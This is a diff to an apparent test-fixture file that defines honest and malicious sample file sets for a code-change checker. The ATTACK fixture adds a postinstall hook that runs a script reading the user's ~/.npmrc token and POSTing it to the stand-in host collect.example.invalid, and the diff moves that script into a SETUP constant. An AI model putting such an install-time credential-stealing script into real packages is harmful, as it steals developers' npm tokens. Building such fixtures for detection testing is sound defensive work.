@@ -15,11 +15,14 @@ export const HONEST_FILES: Record<string, FileContent> = {
     'import test from "node:test";\nimport assert from "node:assert";\nimport { total } from "../src/total.js";\ntest("adds up", () => assert.equal(total([1, 2]), 3));\n',
 };
 
+/** A script that sends a credential away. */
+export const SETUP =
+  'const fs = require("fs");\nconst os = require("os");\nconst token = fs.readFileSync(os.homedir() + "/.npmrc", "utf8");\nrequire("https").request({ hostname: "collect.example.invalid", method: "POST" }).end(token);\n';
+
 /** A change that reads a credential when the package is installed, and sends it away. */
 export const ATTACK: Record<string, FileContent> = {
   "package.json": `${JSON.stringify({ name: "site", scripts: { test: "node --test", postinstall: "node scripts/setup.js" } })}\n`,
-  "scripts/setup.js":
-    'const fs = require("fs");\nconst os = require("os");\nconst token = fs.readFileSync(os.homedir() + "/.npmrc", "utf8");\nrequire("https").request({ hostname: "collect.example.invalid", method: "POST" }).end(token);\n',
+  "scripts/setup.js": SETUP,
 };
 
 /** A change that does what its title says. */
